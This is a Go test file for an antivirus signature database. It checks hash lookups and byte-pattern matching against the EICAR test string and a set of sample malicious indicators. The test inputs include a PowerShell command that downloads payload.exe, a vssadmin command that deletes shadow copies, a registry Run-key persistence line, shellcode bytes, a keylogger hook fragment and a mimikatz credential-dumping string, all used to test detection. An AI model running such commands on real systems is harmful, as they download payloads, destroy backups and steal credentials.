package signatures

import (
	"testing"

	"go.uber.org/zap"

	"github.com/LinkyJayy/Sentry-Antivirus/pkg/models"
)

const (
	eicarHash   = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
	eicarString = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
)

func TestDatabase_CheckHash(t *testing.T) {
	db := NewDatabase(zap.NewNop())

	tests := []struct {
		name     string
		hash     string
		wantName string
		wantHit  bool
	}{
		{"eicar", eicarHash, "EICAR-Test-File", true},
		{"eicar uppercase", "275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F", "EICAR-Test-File", true},
		{"empty file", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "Empty.File.Suspicion", true},
		{"unknown", "deadbeefdeadbeefdeadbeefdeadbeefdeadbeefdeadbeefdeadbeefdeadbeef", "", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			entry, ok := db.CheckHash(tt.hash)
			if ok != tt.wantHit {
				t.Fatalf("CheckHash(%q) hit = %v, want %v", tt.hash, ok, tt.wantHit)
			}
			if ok && entry.Name != tt.wantName {
				t.Errorf("CheckHash(%q).Name = %q, want %q", tt.hash, entry.Name, tt.wantName)
			}
		})
	}
}

func TestDatabase_CheckHashCustom(t *testing.T) {
	db := NewDatabase(zap.NewNop())
	db.AddHash(models.SignatureEntry{
		SHA256:      "ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789",
		Name:        "Custom.Test",
		Level:       models.LevelHigh,
		Description: "test entry",
	})

	entry, ok := db.CheckHash("abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789")
	if !ok {
		t.Fatal("custom hash not found")
	}
	if entry.Name != "Custom.Test" || entry.Level != models.LevelHigh {
		t.Errorf("got %+v, want Custom.Test/HIGH", entry)
	}
}

func TestDatabase_CheckPatterns(t *testing.T) {
	db := NewDatabase(zap.NewNop())

	tests := []struct {
		name     string
		data     []byte
		wantName string
		wantHit  bool
	}{
		{
			"eicar embedded",
			[]byte("some prefix " + eicarString + " some suffix"),
			"EICAR-Test-Pattern",
			true,
		},
		{
			"powershell download",
			[]byte(`powershell Invoke-WebRequest http://example.test/a -OutFile C:\temp\payload.exe`),
			"Suspicious.PowerShell.Download",
			true,
		},
		{
			"shadow copy delete",
			[]byte("vssadmin delete shadows /all /quiet"),
			"Suspicious.Shadow.Delete",
			true,
		},
		{
			"registry run key",
			[]byte(`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v updater`),
			"Suspicious.Registry.Run",
			true,
		},
		{
			"shellcode bytes",
			[]byte{0x00, 0xfc, 0xe8, 0x82, 0x00, 0x00, 0x00, 0x60, 0x89, 0xe5, 0x31},
			"Trojan.Generic.Shellcode",
			true,
		},
		{
			"keylogger",
			[]byte("hook = SetWindowsHookEx(13, ...); writeLog(keys)"),
			"Suspicious.Keylogger.Pattern",
			true,
		},
		{
			"clean text",
			[]byte("hello world, nothing to see here"),
			"",
			false,
		},
		{
			"empty",
			nil,
			"",
			false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rule, ok := db.CheckPatterns(tt.data)
			if ok != tt.wantHit {
				t.Fatalf("CheckPatterns() hit = %v, want %v", ok, tt.wantHit)
			}
			if ok && rule.Name != tt.wantName {
				t.Errorf("CheckPatterns().Name = %q, want %q", rule.Name, tt.wantName)
			}
		})
	}
}

func TestDatabase_CheckPatternsFirstMatchWins(t *testing.T) {
	db := NewDatabase(zap.NewNop())

	// Contains both the shadow-delete indicator and a mimikatz string; the
	// shadow-delete rule is declared first and must win.
	data := []byte("vssadmin delete shadows; sekurlsa::logonpasswords")
	rule, ok := db.CheckPatterns(data)
	if !ok {
		t.Fatal("expected a match")
	}
	if rule.Name != "Suspicious.Shadow.Delete" {
		t.Errorf("got %q, want Suspicious.Shadow.Delete", rule.Name)
	}
}

func TestDatabase_CustomPatternAfterBuiltins(t *testing.T) {
	db := NewDatabase(zap.NewNop())
	db.AddPattern(models.PatternRule{
		Name:        "Custom.Marker",
		Level:       models.LevelMedium,
		Description: "test marker",
		Literal:     []byte("CUSTOM_MARKER_XYZ"),
	})

	rule, ok := db.CheckPatterns([]byte("prefix CUSTOM_MARKER_XYZ suffix"))
	if !ok || rule.Name != "Custom.Marker" {
		t.Fatalf("custom pattern not matched, got %v %v", rule.Name, ok)
	}

	// A built-in indicator in the same data takes priority over the custom
	// rule.
	data := []byte("CUSTOM_MARKER_XYZ and wdigest")
	rule, ok = db.CheckPatterns(data)
	if !ok || rule.Name != "Suspicious.Mimikatz.Strings" {
		t.Fatalf("built-in should win, got %v %v", rule.Name, ok)
	}
}

func TestDatabase_Counts(t *testing.T) {
	db := NewDatabase(zap.NewNop())

	c := db.Counts()
	if c.HashSignatures != len(builtinHashes) {
		t.Errorf("HashSignatures = %d, want %d", c.HashSignatures, len(builtinHashes))
	}
	if c.PatternSignatures != len(builtinPatterns) {
		t.Errorf("PatternSignatures = %d, want %d", c.PatternSignatures, len(builtinPatterns))
	}

	db.AddHash(models.SignatureEntry{SHA256: "aa", Name: "A", Level: models.LevelLow})
	db.AddPattern(models.PatternRule{Name: "B", Level: models.LevelLow, Literal: []byte("b")})

	c = db.Counts()
	if c.HashSignatures != len(builtinHashes)+1 || c.PatternSignatures != len(builtinPatterns)+1 {
		t.Errorf("counts after add = %+v", c)
	}
	if c.Total != c.HashSignatures+c.PatternSignatures {
		t.Errorf("Total = %d, want %d", c.Total, c.HashSignatures+c.PatternSignatures)
	}
}
